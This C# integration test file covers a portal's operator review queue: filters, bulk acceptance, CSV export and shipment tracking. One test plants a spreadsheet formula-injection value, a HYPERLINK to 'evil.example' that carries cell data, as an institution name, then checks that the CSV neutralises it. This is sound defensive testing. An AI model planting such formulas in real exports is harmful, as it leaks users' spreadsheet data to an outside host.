using System.Net;
using System.Text;
using Microsoft.EntityFrameworkCore;
using OnshiPortal.Features.Filings;
using OnshiPortal.Features.Filings.Review;
using OnshiPortal.Features.Institutions;
using OnshiPortal.Tests.Support;

namespace OnshiPortal.Tests.Integration;

/// <summary>
/// Issue 18, the operator's side: one review queue across the procedures (filters, CSV), bulk 受理 with one
/// confirmation, and the steps after 受理 on a filing's review page.
/// </summary>
public abstract class ReviewQueueTests : DataTest
{
    private const string Hostile = "=HYPERLINK(\"http://evil.example/\"&A1,\"詳細\")";

    [Fact]
    public async Task The_one_queue_lists_every_procedure_and_filters_by_procedure_state_prefecture_kind_and_age()
    {
        await using var app = await StartAppAsync();
        var (_, institutions) = await app.QueueInstitutionsAsync(3);
        var (a, b, c) = (institutions[0], institutions[1], institutions[2]);
        var applicationA = await app.FileAsync(a, FilingType.ServiceApplication, quantity: 2);
        await app.AcceptAsync(applicationA);
        var readerA = await app.FileAsync(a, FilingType.CardReaderOrder, quantity: 1);
        var applicationB = await app.FileAsync(b, FilingType.ServiceApplication, quantity: 1);
        await app.BackdateAsync(applicationB, DateTimeOffset.UtcNow.AddDays(-10));
        var applicationC = await app.FileAsync(c, FilingType.ServiceApplication, quantity: 3);
        var session = await OperatorAsync(app);

        var (_, all) = await session.GetAsync("/operator/filings");
        Assert.Contains("<h1>届出・申請の審査</h1>", all);
        Assert.Contains("4件", all);
        Assert.All(new[] { applicationA, readerA, applicationB, applicationC }, f => Assert.Contains(f.ReceiptNumber, all));

        var (_, readers) = await session.GetAsync("/operator/filings?Criteria.Procedure=CardReaderOrder");
        Assert.Equal([readerA.ReceiptNumber], Receipts(readers));
        var (_, readerPage) = await session.GetAsync("/operator/filings/card-reader");
        Assert.Contains("<h1>顔認証付きカードリーダー申込の審査</h1>", readerPage);
        Assert.Equal([readerA.ReceiptNumber], Receipts(readerPage));
        var (_, readersSubmitted) = await session.GetAsync("/operator/filings/card-reader?Criteria.State=Submitted&Criteria.Procedure=Succession");
        Assert.Equal([readerA.ReceiptNumber], Receipts(readersSubmitted)); // the path's procedure wins

        var (_, accepted) = await session.GetAsync("/operator/filings?Criteria.State=Accepted");
        Assert.Equal([applicationA.ReceiptNumber], Receipts(accepted));

        var prefectureB = InstitutionCode.Parse(b.InstitutionCode).Prefecture;
        var (_, ofPrefecture) = await session.GetAsync($"/operator/filings?Criteria.Prefecture={prefectureB}");
        Assert.Contains(applicationB.ReceiptNumber, Receipts(ofPrefecture));
        Assert.DoesNotContain(readerA.ReceiptNumber, Receipts(ofPrefecture));

        var kindA = InstitutionCode.Parse(a.InstitutionCode).Kind;
        var (_, ofKind) = await session.GetAsync($"/operator/filings?Criteria.Kind={kindA}");
        Assert.Contains(readerA.ReceiptNumber, Receipts(ofKind));
        Assert.DoesNotContain(applicationB.ReceiptNumber, Receipts(ofKind));

        // Waiting 7 days or more: B's, filed 10 days ago; the others were filed today.
        var (_, waiting) = await session.GetAsync("/operator/filings?Criteria.WaitingDays=7&Criteria.State=Submitted");
        Assert.Equal([applicationB.ReceiptNumber], Receipts(waiting));
        Assert.Contains("（1週間超）", waiting);

        var (_, wrongAge) = await session.GetAsync("/operator/filings?Criteria.WaitingDays=-1");
        Assert.Contains("経過日数は0から3650までの数字で入力してください。", WebUtility.HtmlDecode(wrongAge));
        var (unknown, _) = await session.GetAsync("/operator/filings/no-such-procedure");
        Assert.Equal(HttpStatusCode.NotFound, unknown.StatusCode);

        // The menu leads to the one queue and to each procedure's.
        var (_, menu) = await session.GetAsync("/operator");
        Assert.Contains("href=\"/operator/filings\"", menu);
        Assert.Contains("href=\"/operator/filings/card-reader\"", menu);
    }

    [Fact]
    public async Task Bulk_acceptance_confirms_once_then_accepts_each_and_says_which_were_refused_and_why()
    {
        await using var app = await StartAppAsync();
        var (_, institutions) = await app.QueueInstitutionsAsync(3);
        var first = await app.FileAsync(institutions[0], FilingType.ServiceApplication, quantity: 2);
        var second = await app.FileAsync(institutions[1], FilingType.ServiceApplication, quantity: 1);
        var taken = await app.FileAsync(institutions[2], FilingType.ServiceApplication, quantity: 1);
        var succession = await app.FileAsync(institutions[2], FilingType.CardReaderOrder, quantity: 1);
        await using (var db = app.Database.CreateContext())
        {
            // A succession in 受付 (its own form is another test's): only its type matters here.
            await db.Set<Filing>().Where(f => f.Id == succession.Id).ExecuteUpdateAsync(s => s.SetProperty(f => f.Type, FilingType.Succession));
        }

        var session = await OperatorAsync(app);
        var (_, queue) = await session.GetAsync("/operator/filings?Criteria.State=Submitted");
        Assert.Contains($"name=\"ids\" value=\"{first.Id}\"", queue);
        Assert.DoesNotContain($"name=\"ids\" value=\"{succession.Id}\"", queue); // a succession is not offered
        Assert.Contains("選択した届出を受理する", queue);

        // The confirmation lists what will be accepted, and what will not and why; nothing changes yet.
        var chosen = new[] { first, second, taken, succession }.Select(f => new KeyValuePair<string, string>("ids", f.Id.ToString(System.Globalization.CultureInfo.InvariantCulture)));
        var (confirmResponse, confirm) = await session.PostFormAsync("/operator/filings/bulk", queue, chosen);
        Assert.Equal(HttpStatusCode.OK, confirmResponse.StatusCode);
        var confirmText = WebUtility.HtmlDecode(confirm);
        Assert.Contains("次の3件を受理します。", confirmText);
        Assert.Contains(first.ReceiptNumber, confirmText);
        Assert.Contains("利用申請", confirmText);
        Assert.Contains(first.InstitutionName, confirmText);
        Assert.Contains(BulkModel.SuccessionRefusal, confirmText);
        Assert.Contains("3件の受理を確定する", confirmText);
        Assert.Equal(FilingState.Submitted, (await app.FilingAsync(first.ReceiptNumber)).State);

        // Another operator accepts one in the meantime: it is refused with the reason, the others are accepted.
        await app.AcceptAsync(taken);
        var confirmed = HiddenIds(confirm);
        Assert.Equal(3, confirmed.Count);
        var (_, result) = await session.PostFormAsync("/operator/filings/bulk?handler=Accept", confirm, confirmed.Select(id => new KeyValuePair<string, string>("Ids", id)));
        var resultText = WebUtility.HtmlDecode(result);
        Assert.Contains("2件を受理しました。受理できなかった届出は1件です。", resultText);
        Assert.Contains(BulkModel.NotSubmittedRefusal, resultText);
        Assert.Equal(FilingState.Accepted, (await app.FilingAsync(first.ReceiptNumber)).State);
        Assert.Equal(FilingState.Accepted, (await app.FilingAsync(second.ReceiptNumber)).State);
        Assert.Equal(FilingState.Submitted, (await app.FilingAsync(succession.ReceiptNumber)).State);
        var firstEvents = (await app.FilingAsync(first.ReceiptNumber)).Events;
        Assert.Contains(firstEvents, e => e.To == FilingState.Accepted && e.ByOperator);

        // Each acceptance sent its own mail; a succession posted by hand is refused, not accepted.
        Assert.Contains(await app.MailsToAsync($"queue1-{institutions[1].InstitutionCode}@example.jp"), m => m.Subject.Contains("受理のお知らせ", StringComparison.Ordinal));
        var (_, forced) = await session.PostFormAsync("/operator/filings/bulk?handler=Accept", confirm, [new("Ids", succession.Id.ToString(System.Globalization.CultureInfo.InvariantCulture))]);
        Assert.Contains(BulkModel.SuccessionRefusal, WebUtility.HtmlDecode(forced));
        Assert.Equal(FilingState.Submitted, (await app.FilingAsync(succession.ReceiptNumber)).State);

        // Nothing chosen, or more than a page: refused with a reason.
        var (_, none) = await session.PostFormAsync("/operator/filings/bulk", queue, []);
        Assert.Contains("受理する届出を一覧で選んでください。", WebUtility.HtmlDecode(none));
        var (_, tooMany) = await session.PostFormAsync("/operator/filings/bulk", queue, Enumerable.Range(1, BulkModel.Limit + 1).Select(i => new KeyValuePair<string, string>("ids", i.ToString(System.Globalization.CultureInfo.InvariantCulture))));
        Assert.Contains($"一度に受理できるのは{BulkModel.Limit}件までです（{BulkModel.Limit + 1}件が選ばれています）。", WebUtility.HtmlDecode(tooMany));
    }

    [Fact]
    public async Task The_csv_of_every_procedure_has_the_procedure_quantity_and_start_date_and_no_formulas()
    {
        await using var app = await StartAppAsync();
        var (_, institutions) = await app.QueueInstitutionsAsync(2);
        var application = await app.FileAsync(institutions[0], FilingType.ServiceApplication, quantity: 2);
        await app.AcceptAsync(application);
        var start = await app.FileAsync(institutions[0], FilingType.OperationStart, effectiveOn: JapanDay(DateTimeOffset.UtcNow).AddDays(20));
        var reader = await app.FileAsync(institutions[1], FilingType.CardReaderOrder, quantity: 1);
        await app.RenameAsync(reader, Hostile);
        var session = await OperatorAsync(app);

        Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
        foreach (var (encoding, decode) in new (string, Func<byte[], string>)[]
        {
            ("utf8", bytes => { Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]); return Encoding.UTF8.GetString(bytes.AsSpan(3)); }),
            ("sjis", bytes => Encoding.GetEncoding(932).GetString(bytes)),
        })
        {
            var rows = Parse(decode(await session.Client.GetByteArrayAsync($"/operator/filings?handler=Csv&encoding={encoding}")));
            var header = rows[0];
            Assert.Equal(["受付番号", "届出", "状態", "医療機関等コード", "名称", "都道府県", "種別", "受付日時", "経過日数", "承継先コード", "経過措置の区分", "経過措置の期限", "数量", "運用開始日"], header);
            var byReceipt = rows.Skip(1).ToDictionary(r => r[0]);
            Assert.Equal(3, byReceipt.Count);
            Assert.Equal(("利用申請", "受理", "2", ""), Columns(byReceipt[application.ReceiptNumber]));
            Assert.Equal(("運用開始日の登録", "受付", "", start.EffectiveOn!.Value.ToString("yyyy-MM-dd", System.Globalization.CultureInfo.InvariantCulture)), Columns(byReceipt[start.ReceiptNumber]));
            Assert.Equal(("顔認証付きカードリーダー申込", "受付", "1", ""), Columns(byReceipt[reader.ReceiptNumber]));
            Assert.Equal("'" + Hostile, byReceipt[reader.ReceiptNumber][4]);

            (string, string, string, string) Columns(string[] row) => (row[1], row[2], row[12], row[13]);
        }

        // Filtered as the page is: one procedure's CSV has its filings only.
        var readers = Parse(Encoding.UTF8.GetString((await session.Client.GetByteArrayAsync("/operator/filings/card-reader?handler=Csv&encoding=utf8")).AsSpan(3)));
        Assert.Equal([reader.ReceiptNumber], readers.Skip(1).Select(r => r[0]));
    }

    [Fact]
    public async Task The_operator_marks_a_card_reader_shipped_with_its_tracking_number_and_an_institution_may_not()
    {
        await using var app = await StartAppAsync();
        var (_, institutions) = await app.QueueInstitutionsAsync(1);
        var reader = await app.FileAsync(institutions[0], FilingType.CardReaderOrder, quantity: 1);
        var session = await OperatorAsync(app);
        var path = $"/operator/filings/card-reader/{reader.ReceiptNumber}";

        var (_, submitted) = await session.GetAsync(path);
        Assert.DoesNotContain("発送済にする", submitted); // only after 受理
        await app.AcceptAsync(reader);
        var (_, detail) = await session.GetAsync(path);
        Assert.Contains("受理後の手続き", detail);
        Assert.Contains("追跡番号", detail);

        var (_, missing) = await session.PostAsync(path + "?handler=Fulfil", detail, new Dictionary<string, string?> { ["To"] = "Shipped", ["Note"] = " " });
        Assert.Contains("追跡番号を入力してください。", WebUtility.HtmlDecode(missing));
        Assert.Contains("id=\"Note-error\"", missing);
        var (_, tooLong) = await session.PostAsync(path + "?handler=Fulfil", detail, new Dictionary<string, string?> { ["To"] = "Shipped", ["Note"] = new string('1', 51) });
        Assert.Contains("追跡番号は50文字以内で入力してください（現在51文字）。", WebUtility.HtmlDecode(tooLong));
        var (wrongStep, wrongStepHtml) = await session.PostAsync(path + "?handler=Fulfil", detail, new Dictionary<string, string?> { ["To"] = "Delivered" });
        Assert.Equal(HttpStatusCode.OK, wrongStep.StatusCode);
        Assert.Contains("この手続きは、いまの状態ではこの操作ができません。", WebUtility.HtmlDecode(wrongStepHtml)); // 到着確認 is the institution's
        Assert.Equal(FilingState.Accepted, (await app.FilingAsync(reader.ReceiptNumber)).State);

        var (shipped, _) = await session.PostAsync(path + "?handler=Fulfil", detail, new Dictionary<string, string?> { ["To"] = "Shipped", ["Note"] = "1234-5678-9012" });
        Assert.Equal(HttpStatusCode.Redirect, shipped.StatusCode);
        var (_, after) = await session.GetAsync(shipped.Headers.Location!.OriginalString);
        Assert.Contains("手続きの状態を「発送済」にしました。", WebUtility.HtmlDecode(after));
        Assert.Contains("1234-5678-9012", after); // the history, with the note
        Assert.DoesNotContain("受理後の手続き", after); // nothing more for the operator
        var filing = await app.FilingAsync(reader.ReceiptNumber);
        Assert.Equal(FilingState.Shipped, filing.State);
        Assert.Contains(filing.Events, e => e.To == FilingState.Shipped && e.Reason == "1234-5678-9012" && e.ByOperator);

        // The institution's own person is refused every page of the operator's side.
        var institution = app.Session();
        await institution.LogInAsync($"queue0-{institutions[0].InstitutionCode}@example.jp", ActivationScenario.NewPassword, "/mypage");
        Refusals.AssertForbidden(await institution.Client.GetAsync("/operator/filings"));
        Refusals.AssertForbidden(await institution.Client.GetAsync("/operator/filings?handler=Csv&encoding=utf8"));
        Refusals.AssertForbidden(await institution.Client.GetAsync(path));
        var (_, myPage) = await institution.GetAsync("/mypage");
        Refusals.AssertForbidden((await institution.PostFormAsync("/operator/filings/bulk?handler=Accept", myPage, [new("Ids", reader.Id.ToString(System.Globalization.CultureInfo.InvariantCulture))])).Response);
    }

    private static async Task<HttpSession> OperatorAsync(PortalAppFactory app)
    {
        var (email, password) = await app.AddOperatorAsync();
        var session = app.Session();
        await session.LogInAsync(email, password, "/operator");
        return session;
    }

    private static DateOnly JapanDay(DateTimeOffset at) => DateOnly.FromDateTime(at.ToOffset(TimeSpan.FromHours(9)).DateTime);

    /// <summary>The receipt numbers of the queue's rows, in order.</summary>
    private static List<string> Receipts(string html) =>
        [.. System.Text.RegularExpressions.Regex.Matches(html, @"<td><a href=""/operator/filings/[a-z-]+/([A-Z]-\d{4}-\d{6})""").Select(m => m.Groups[1].Value)];

    private static List<string> HiddenIds(string html) =>
        [.. System.Text.RegularExpressions.Regex.Matches(html, @"<input type=""hidden"" name=""Ids"" value=""(\d+)""").Select(m => m.Groups[1].Value)];

    /// <summary>RFC 4180 as Excel reads it: quoted fields with doubled quotes, CRLF between records.</summary>
    private static List<string[]> Parse(string text)
    {
        var rows = new List<string[]>();
        var row = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(field.ToString());
                field.Clear();
            }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
            {
                row.Add(field.ToString());
                field.Clear();
                rows.Add([.. row]);
                row.Clear();
                i++;
            }
            else
            {
                field.Append(c);
            }
        }

        Assert.Empty(row); // every record ends with CRLF
        return rows;
    }
}

public sealed class ReviewQueueTestsOnSqlite : ReviewQueueTests
{
    protected override TestDatabase CreateDatabase() => new SqliteTestDatabase();
}

public sealed class ReviewQueueTestsOnPostgres : ReviewQueueTests
{
    protected override TestDatabase CreateDatabase() => new PostgresTestDatabase();
}
